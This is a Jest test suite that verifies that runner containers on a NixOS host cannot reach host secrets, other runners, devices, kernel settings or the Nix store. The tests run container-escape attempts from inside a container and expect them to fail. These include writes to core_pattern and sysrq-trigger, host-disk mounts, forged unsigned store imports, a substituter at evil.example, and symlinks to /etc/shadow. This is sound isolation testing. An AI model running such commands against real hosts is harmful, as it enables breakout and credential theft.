import { afterAll, beforeAll, expect, it, jest } from '@jest/globals';
import { execa } from 'execa';
import { mkdir, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import type { Container } from '../container.js';
import { runtimeDir, startedContainer } from '../container.js';
import { describeOnTestHost } from '../on-test-host.js';

jest.setTimeout(60_000);

const secret = 'github_pat_that_no_job_may_see';
const secretDir = '/run/secrets/github-runner';
const privileged = /not permitted|denied|not allowed|Read-only/i;

describeOnTestHost('the host, seen from a container', () => {
  let attacker: Container;
  let other: Container;
  beforeAll(async () => {
    await mkdir(secretDir, { recursive: true, mode: 0o700 });
    await writeFile(`${secretDir}/token`, secret, { mode: 0o400 });
    [attacker, other] = await Promise.all([startedContainer(), startedContainer()]);
    await other.handOver('another-runners-jit-configuration');
    await other.event('exited');
  });
  afterAll(async () => {
    await rm(secretDir, { recursive: true });
    await Promise.all([attacker.destroy(), other.destroy()]);
  });

  const both = async (script: string) => [
    (await attacker.asRunner(script)).output,
    (await attacker.asRoot(script)).output,
  ];

  it('has no secret of the host, in any file or environment', async () => {
    const search = `ls -A /run/secrets /run/agenix 2>/dev/null
      grep -rlsa --exclude-dir=sys '${secret.slice(0, 15)}[_]that' /run /etc /var /tmp /root /home /nix/var /proc/[0-9]*/environ`;
    expect(await both(search)).toEqual(['', '']);
  });

  it("has nobody else's processes, users or files", async () => {
    const marker = other.name;
    const look = `ps -eo args | grep -v grep | grep -c nspawn; ls /var/lib/nixos-containers /etc/nixos-containers ${runtimeDir} 2>&1 | grep -c 'No such file';
      grep -c '${marker.slice(0, 4)}[${marker[4] ?? ''}]' /proc/mounts /proc/self/mountinfo | cut -d: -f2 | paste -sd+ | sed 's/+/ /'`;
    expect(await both(look)).toEqual(['0\n3\n0 0', '0\n3\n0 0']);
  });

  it('shows no JIT configuration of another runner', async () => {
    expect(await both("grep -rls 'another-runners-ji[t]' /run /proc/[0-9]*/root/run 2>/dev/null")).toEqual([
      '',
      '',
    ]);
  });

  it('has no disk, and root can make no device for one', async () => {
    const { output } = await attacker.asRoot(
      'ls /dev | grep -E "^(vd|sd|nvme|loop|mem|kmsg)"; mknod /tmp/disk b 254 0; mknod /dev/disk b 7 0',
    );
    expect(output.split('\n')).toEqual([
      expect.stringMatching(privileged),
      expect.stringMatching(privileged),
    ]);
  });

  it('loads no kernel module for root', async () => {
    const initModule = 175;
    const script = `import ctypes, os; c = ctypes.CDLL(None, use_errno=True); c.syscall(${initModule}, b"", 0, b""); print(os.strerror(ctypes.get_errno()))`;
    const [asRunner, asRoot] = await both(`python3 -c '${script}'`);
    expect([asRunner, asRoot]).toEqual(['Operation not permitted', 'Operation not permitted']);
  });

  it('lets root change no setting of the kernel and mount no filesystem of the host', async () => {
    const { output } = await attacker.asRoot(
      'echo x > /proc/sys/kernel/core_pattern; echo 1 > /proc/sysrq-trigger; mount -t ext4 /dev/vda /mnt; mount -t debugfs none /mnt; echo end',
    );
    const lines = output.split('\n');
    expect(lines.pop()).toBe('end');
    expect(lines.filter((line) => line.startsWith('bash:') || line.startsWith('mount:')).length).toBe(4);
  });

  it('runs the root of a container as nobody', async () => {
    const { output } = await attacker.asRoot('sleep 20 & cat /proc/self/uid_map');
    expect(Number(output.trim().split(/\s+/)[1])).toBeGreaterThanOrEqual(524_288);
    const { stdout } = await execa('machinectl', ['show', attacker.name, '--property', 'Leader', '--value']);
    expect((await stat(`/proc/${stdout}`)).uid).toBeGreaterThanOrEqual(524_288);
  });

  it('keeps the Nix store read-only', async () => {
    const [asRunner, asRoot] = await both('touch /nix/store/attack; echo $?');
    expect([asRunner, asRoot]).toEqual([
      expect.stringMatching(privileged),
      expect.stringMatching(privileged),
    ]);
    const { output } = await attacker.asRoot(
      'mount -o remount,bind,rw /nix/store; umount /nix/store; touch /nix/store/attack',
    );
    expect(output).toMatch(privileged);
    expect((await readdir('/nix/store')).filter((name) => name.includes('attack'))).toEqual([]);
  });

  it('trusts neither a job nor container root as a user of the Nix daemon', async () => {
    // An import that lacks a signature is what a trusted user, and nobody else, may do.
    const forge = `cd $(mktemp -d); echo forged > attack; export NIX_REMOTE=
      path=$(nix-store --store local?root=$PWD/own --add attack 2>/dev/null)
      nix-store --store local?root=$PWD/own --export "$path" > export || exit
      NIX_REMOTE=daemon nix-store --import < export`;
    const refusal = expect.stringMatching(
      /lacks a valid signature|not privileged|not allowed/,
    ) as unknown as string;
    expect(await both(forge)).toEqual([refusal, refusal]);
    const setting = 'nix-store --option substituters http://evil.example --add /etc/hostname';
    const ignored = expect.stringMatching(/ignoring untrusted substituter/) as unknown as string;
    expect(await both(setting)).toEqual([ignored, ignored]);
  });

  it('runs no program and honours no setuid bit that a container leaves in out/', async () => {
    await attacker.asRoot('cp /bin/true /run/runner/out/booty; chmod 4755 /run/runner/out/booty');
    const file = `${runtimeDir}/${attacker.name}/out/booty`;
    expect((await stat(file)).uid).toBe(0);
    expect((await execa(file, { reject: false })).code).toBe('EACCES');
    for (const path of [runtimeDir, file]) {
      const { stdout } = await execa('findmnt', ['-n', '-o', 'OPTIONS', '--target', path]);
      expect(stdout).toMatch(/nosuid,nodev,noexec/);
    }
    expect((await stat(runtimeDir)).mode & 0o777).toBe(0o700);
  });

  it('follows no link that a container leaves in out/', async () => {
    await attacker.asRoot(
      `cd /run/runner/out; ln -s ${secretDir}/token listening; mkfifo job-started; head -c 20K /dev/zero > job-completed; ln -s /etc/shadow exited`,
    );
    const events = await attacker.read();
    expect({ ...events, refused: events.refused.toSorted() }).toEqual({
      booted: { at: expect.any(Number) },
      handedOver: false,
      refused: [
        'exited is a symbolic link.',
        'job-completed is larger than 16384 bytes.',
        'job-started is not a regular file.',
        'listening is a symbolic link.',
      ],
    });
    expect(await readFile(`${secretDir}/token`, 'utf8')).toBe(secret);
  });

  it('lets nobody write into in/', async () => {
    const [asRunner, asRoot] = await both('touch /run/runner/in/jitconfig');
    expect([asRunner, asRoot]).toEqual([
      expect.stringMatching(privileged),
      expect.stringMatching(privileged),
    ]);
    const { output } = await attacker.asRoot(
      'mount -o remount,bind,rw /run/runner/in; touch /run/runner/in/jitconfig',
    );
    expect(output).toMatch(privileged);
  });
});
